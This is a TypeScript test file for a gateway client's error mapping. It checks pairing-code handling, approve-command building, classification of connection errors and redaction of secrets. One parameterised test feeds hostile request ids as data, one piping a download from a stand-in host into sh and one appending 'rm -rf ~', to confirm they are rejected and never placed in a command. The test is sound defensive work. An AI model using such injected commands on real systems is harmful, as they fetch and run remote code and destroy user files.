import { GatewayError, mapGatewayResponseError, mapLocalConnectError, mapLocalRequestError, redact, redactDetails } from "./errors.ts";

const resp = (gatewayCode: string, details?: unknown, extra: Record<string, unknown> = {}) =>
  Object.assign(new Error("some gateway text that must not matter"), { gatewayCode, details, ...extra });

describe("gateway error mapping", () => {
  it.each([
    ["INVALID_REQUEST", { code: "AUTH_TOKEN_MISMATCH" }, "AUTH_FAILED"],
    ["INVALID_REQUEST", { code: "AUTH_DEVICE_TOKEN_MISMATCH" }, "AUTH_FAILED"],
    ["INVALID_REQUEST", { code: "AUTH_RATE_LIMITED" }, "AUTH_FAILED"],
    ["INVALID_REQUEST", { code: "DEVICE_AUTH_SIGNATURE_INVALID" }, "AUTH_FAILED"],
    ["NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" }, "PAIRING_REQUIRED"],
    ["NOT_PAIRED", undefined, "PAIRING_REQUIRED"],
    ["FORBIDDEN", { code: "MISSING_SCOPE", missingScope: "operator.write", requiredScopes: ["operator.write"] }, "MISSING_SCOPE"],
    ["INVALID_REQUEST", { code: "AUTH_SCOPE_MISMATCH" }, "MISSING_SCOPE"],
    ["INVALID_REQUEST", { code: "PROTOCOL_MISMATCH", expectedProtocol: 5 }, "PROTOCOL_MISMATCH"],
    ["UNAVAILABLE", { reason: "startup-sidecars" }, "GATEWAY_STARTING"],
    ["UNAVAILABLE", { reason: "websocket-upgrade-rejected", httpStatus: 502 }, "GATEWAY_UNREACHABLE"],
    ["UNAVAILABLE", { reason: "websocket-upgrade-rejected", httpStatus: 404 }, "GATEWAY_ERROR"],
    ["UNAVAILABLE", { reason: "something-else" }, "GATEWAY_ERROR"],
    ["INVALID_REQUEST", { code: "SOMETHING_NEW" }, "GATEWAY_ERROR"],
  ])("%s / %j → %s", (gatewayCode, details, expected) => {
    const e = mapGatewayResponseError(resp(gatewayCode, details), "connect");
    expect(e).toBeInstanceOf(GatewayError);
    expect(e.code).toBe(expected);
    expect(e.message.length).toBeGreaterThan(10);
  });

  it("keeps the gateway's own code in details and builds the approve command", () => {
    const e = mapGatewayResponseError(resp("NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", reason: "not-paired" }), "connect");
    expect(e.details).toMatchObject({ gatewayCode: "NOT_PAIRED", detailCode: "PAIRING_REQUIRED", requestId: "0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d", approveCommand: "openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d" });
    expect(e.message).toContain("openclaw devices approve 0b6f1c2e-8d4a-4f3b-9c1d-2e5f6a7b8c9d");
    const other = mapGatewayResponseError(resp("INVALID_REQUEST", { code: "SOMETHING_NEW" }), "request");
    expect(other.details).toMatchObject({ gatewayCode: "INVALID_REQUEST", detailCode: "SOMETHING_NEW" });
  });

  it.each(["0 && curl https://evil.example/x | sh #", "abc-123", `${"a".repeat(8)}-aaaa-aaaa-aaaa-aaaaaaaaaaaa; rm -rf ~`, "", " "])(
    "a pairing request id not in OpenClaw's UUID format (%j) is a protocol error with no command",
    (requestId) => {
      const e = mapGatewayResponseError(resp("NOT_PAIRED", { code: "PAIRING_REQUIRED", requestId }), "connect");
      if (!requestId.trim()) return expect(e.code).toBe("PAIRING_REQUIRED"); // no id at all: the generic hint, no command
      expect(e.code).toBe("GATEWAY_PROTOCOL_ERROR");
      expect(JSON.stringify(e.details)).not.toContain("approve");
      expect(JSON.stringify(e.details)).not.toContain(requestId);
      expect(e.message).not.toContain(requestId);
      expect(e.message).not.toContain("devices approve");
    },
  );

  it("branches on details.code, not on the message", () => {
    const e = mapGatewayResponseError(Object.assign(new Error("pairing required: token mismatch missing scope"), { gatewayCode: "INVALID_REQUEST", details: { code: "PROTOCOL_MISMATCH" } }), "connect");
    expect(e.code).toBe("PROTOCOL_MISMATCH");
  });

  it("maps local connect errors", () => {
    const errno = (code: string) => Object.assign(new Error(`connect ${code} 127.0.0.1:1`), { code });
    expect(mapLocalConnectError(errno("ECONNREFUSED")).code).toBe("GATEWAY_UNREACHABLE");
    expect(mapLocalConnectError(errno("ENOTFOUND")).code).toBe("GATEWAY_UNREACHABLE");
    expect(mapLocalConnectError(errno("EHOSTUNREACH")).code).toBe("GATEWAY_UNREACHABLE");
    expect(mapLocalConnectError(errno("DEPTH_ZERO_SELF_SIGNED_CERT")).code).toBe("GATEWAY_ERROR");
    expect(mapLocalConnectError(new Error("Opening handshake has timed out")).code).toBe("GATEWAY_UNREACHABLE");
    expect(mapLocalConnectError(new Error("gateway connect challenge timeout (waited 1000ms, limit 1000ms)")).code).toBe("GATEWAY_TIMEOUT");
    class GatewayWebSocketTlsPinError extends Error {}
    expect(mapLocalConnectError(new GatewayWebSocketTlsPinError("x")).code).toBe("TLS_PIN_MISMATCH");
  });

  it("maps local request errors", () => {
    expect(mapLocalRequestError(Object.assign(new Error("t"), { code: "CLIENT_TIMEOUT" }), "chat.send").code).toBe("GATEWAY_TIMEOUT");
    expect(mapLocalRequestError(new Error("gateway closed (1006): "), "agent.wait").code).toBe("GATEWAY_UNREACHABLE");
    expect(mapLocalRequestError(new Error("gateway closed (1009): too big"), "agent.wait").code).toBe("GATEWAY_ERROR");
    expect(mapLocalRequestError(new Error("gateway not connected"), "x").code).toBe("GATEWAY_UNREACHABLE");
  });

  it("never leaks tokens or keys", () => {
    const token = "tok_very_secret_123456";
    expect(redact(`bad token ${token} in ws://h/?token=${token}&x=1`, [token])).not.toContain(token);
    expect(redact("ws://h:1/?auth_token=abc123&x=1")).toBe("ws://h:1/?auth_token=***&x=1");
    expect(redact("-----BEGIN PRIVATE KEY-----\nMC4CAQAw\n-----END PRIVATE KEY-----")).toBe("***");
    const d = redactDetails({ deviceToken: "dt-1", nested: { msg: `x ${token}` } }, [token]);
    expect(JSON.stringify(d)).not.toContain(token);
    expect(JSON.stringify(d)).not.toContain("dt-1");
    const mapped = mapGatewayResponseError(resp("INVALID_REQUEST", { code: "SOMETHING", echo: `you sent ${token}` }), "connect", [token]);
    expect(JSON.stringify(mapped.toInfo())).not.toContain(token);
  });
});
